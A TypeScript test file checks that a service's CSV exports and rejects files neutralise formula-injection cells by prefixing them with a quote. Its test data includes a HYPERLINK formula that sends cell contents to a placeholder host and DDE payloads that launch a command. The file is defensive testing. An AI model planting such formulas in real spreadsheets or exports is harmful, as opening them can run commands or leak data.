import { parse } from 'csv-parse/sync';
import { get } from '../harness/http';
import { BASE_REFERENCES, expectReport, postBatch, seed, uploadCsv } from '../harness/ingest-helpers';
import { useTestApp } from '../harness/test-app';

/**
 * OWASP CSV injection: no cell of a CSV the service writes may start with =,
 * +, -, @, tab or carriage return, so a spreadsheet never runs it as a
 * formula. Such cells are prefixed with a single quote; the rejects file
 * still gives every other line back byte for byte.
 */
describe('CSV exports neutralise formula cells', () => {
  const app = useTestApp();

  const FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

  /** The body as sent (a decoder would drop a BOM). */
  async function rejectsOf(id: number): Promise<string> {
    const res = await fetch(`${app.baseUrl}/ingestions/${id}/rejects`);
    expect(res.status).toBe(200);
    return Buffer.from(await res.arrayBuffer()).toString('utf8');
  }

  describe('metrics', () => {
    beforeEach(async () => {
      // Straight into the tables: names as any other client could have stored them (tab and CR included).
      await seed(app, {
        departments: FORMULAS.map((name, i) => ({ id: i + 1, name })),
        jobs: [{ id: 1, title: '=cmd|\'/C calc\'!A0' }],
        employees: FORMULAS.map((_, i) => ({ id: i + 1, name: `E${i}`, hire_date: '2021-05-01T00:00:00.000Z', department_id: i + 1, job_id: 1 })),
      });
    });

    it('prefixes every department and job of hiring_by_quarter as CSV, and leaves the JSON as stored', async () => {
      const res = await get(app.baseUrl, '/metrics/hiring_by_quarter?year=2021&format=csv');
      expect(res.status).toBe(200);
      const [header, ...rows] = parse(res.text) as string[][];
      expect(header).toEqual(['department', 'job', 'Q1', 'Q2', 'Q3', 'Q4']);
      expect(rows.map((row) => row[0]).sort()).toEqual(FORMULAS.map((name) => `'${name}`).sort());
      expect(rows.every((row) => row[1] === '\'=cmd|\'/C calc\'!A0')).toBe(true);
      expect(rows.every((row) => row.slice(2).join() === '0,1,0,0')).toBe(true);

      const json = await get(app.baseUrl, '/metrics/hiring_by_quarter?year=2021');
      expect(json.body.map((row: { department: string }) => row.department).sort()).toEqual([...FORMULAS].sort());
    });

    it('prefixes departments_above_mean as CSV for Accept: text/csv', async () => {
      await seed(app, { employees: [{ id: 100, name: 'More', hire_date: '2021-06-01T00:00:00.000Z', department_id: 1, job_id: 1 }] });
      const res = await fetch(`${app.baseUrl}/metrics/departments_above_mean?year=2021`, { headers: { accept: 'text/csv' } });
      expect(parse(await res.text())).toEqual([
        ['id', 'department', 'hired'],
        ['1', `'${FORMULAS[0]}`, '2'],
      ]);
    });
  });

  describe('the rejects file', () => {
    // A spreadsheet export: BOM, semicolons, CRLF; rejected lines with a formula-like cell and one without.
    const HEADER = 'id;name;hire_date;department_id;job_id';
    const GOOD = '1;Ada;2021-01-05T00:00:00Z;1;1';
    const PLAIN = '2; "Turing, Alan" ;2021-02-30T00:00:00Z;1;1';
    const FORMULA = '3;"=HYPERLINK(""http://example.invalid/?""&A1)";not a date;1;1';
    const NEGATIVE = '4;Grace;2021-04-05T00:00:00Z;-5;2';
    const TAB = '5;  "\t@me" ;2021-05-05T00:00:00Z;9;2';
    const FILE = `\uFEFF${[HEADER, GOOD, PLAIN, FORMULA, NEGATIVE, TAB].join('\r\n')}\r\n`;

    it('prefixes the formula cells of a rejected line, keeps its other cells, and every other line byte for byte', async () => {
      await seed(app, BASE_REFERENCES);
      const upload = await uploadCsv(app, 'employees', FILE, { query: { on_error: 'skip', delimiter: ';' } });
      expectReport(upload, { inserted: 1, rejected: 4 });

      const text = await rejectsOf(upload.body.id);
      expect(text.startsWith('\uFEFF')).toBe(true);
      const lines = text.slice(1).split('\r\n');
      expect(lines[0]).toBe(`${HEADER};line;column;error_code;message`);
      // Untouched: exactly as written, spaces and quotes included.
      expect(lines[1].startsWith(`${PLAIN};3;hire_date;invalid_date;`)).toBe(true);
      // Re-written from its cells with the file's delimiter, the formula cell prefixed.
      expect(lines[2].startsWith(`3;"'=HYPERLINK(""http://example.invalid/?""&A1)";not a date;1;1;4;hire_date;invalid_date;`)).toBe(true);
      // A negative number is prefixed too: the export cannot tell -5 from a formula.
      expect(lines[3].startsWith("4;Grace;2021-04-05T00:00:00Z;'-5;2;5;department_id;")).toBe(true);
      const tabbed = parse(`${lines[4]}\r\n`, { delimiter: ';' }) as string[][];
      expect(tabbed[0].slice(0, 6)).toEqual(['5', "'\t@me", '2021-05-05T00:00:00Z', '9', '2', '6']);
      expect(lines.slice(5)).toEqual(['']);

      // Every cell of the file, read as a spreadsheet reads it, is safe.
      const cells = (parse(text, { delimiter: ';', bom: true, trim: true, relax_column_count: true }) as string[][]).flat();
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    });

    it('gives back a rejected line without formula cells byte for byte, next to a neutralised one', async () => {
      const upload = await uploadCsv(app, 'departments', 'id,name\nx,  "Sales, ""EMEA""" \ny,=1+1\n2,Legal\n', { query: { on_error: 'skip' } });
      expectReport(upload, { inserted: 1, rejected: 2 });
      const lines = (await rejectsOf(upload.body.id)).split('\n');
      expect(lines[1].startsWith('x,  "Sales, ""EMEA""" ,2,id,invalid_integer,')).toBe(true);
      expect(lines[2].startsWith("y,'=1+1,3,id,invalid_integer,")).toBe(true);
    });

    it('neutralises a batch row\'s cells', async () => {
      const res = await postBatch(app, 'departments', { rows: [{ id: 1, name: '=cmd' }, { id: 'x', name: '@evil' }] });
      expect(res.status).toBe(422);
      const records = parse(await rejectsOf(res.body.ingestion_id)) as string[][];
      expect(records[0]).toEqual(['id', 'name', 'row', 'column', 'error_code', 'message']);
      expect(records[1].slice(0, 3)).toEqual(['x', "'@evil", '1']);
    });
  });
});
